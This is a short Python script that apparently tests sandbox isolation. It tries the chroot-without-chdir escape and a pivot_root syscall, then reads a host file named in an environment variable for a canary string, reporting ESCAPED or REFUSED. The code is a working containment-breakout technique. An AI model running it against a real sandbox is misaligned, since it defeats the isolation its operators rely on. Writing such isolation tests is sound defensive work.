"""Leaves its root by the old trick: chroot without chdir, then `..` often; and pivot_root.
Success: a canary beyond the old root, or pivot_root works."""
import ctypes
import errno
import json
import os
import platform
import re

FACTS = json.loads(os.environ.get("HOST_FACTS", "{}"))
LIBC = ctypes.CDLL(None, use_errno=True)


def call(name, *args):
    """Calls the C library; an error becomes an OSError."""
    result = getattr(LIBC, name)(*args)
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result


def say(text):
    print(text, flush=True)


def attempt(what, action):
    """Prints the proof that the action returns, or why there is none."""
    try:
        proof = action()
        say("ESCAPED: %s (%s)" % (proof, what) if proof else "REFUSED: no effect (%s)" % what)
    except KeyError as missing:
        say("REFUSED: no fact %s (%s)" % (missing.args[0], what))
    except OSError as error:
        say("REFUSED: %s (%s)" % (errno.errorcode.get(error.errno, error), what))


def canary(data):
    found = re.search(rb"CANARY-[\w.-]+", data)
    return found.group().decode() if found else None


PIVOT_ROOT = {"x86_64": 155, "aarch64": 41}.get(platform.machine())


def pivot():
    call("syscall", ctypes.c_long(PIVOT_ROOT), b"jail", b"jail")
    return "pivot_root"


def trick():
    os.chroot("jail")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    with open(FACTS["hostSecretFile"], "rb") as file:
        return canary(file.read())


say("begin")
os.makedirs("jail", exist_ok=True)
if PIVOT_ROOT:
    attempt("pivot_root", pivot)
attempt("chroot", trick)
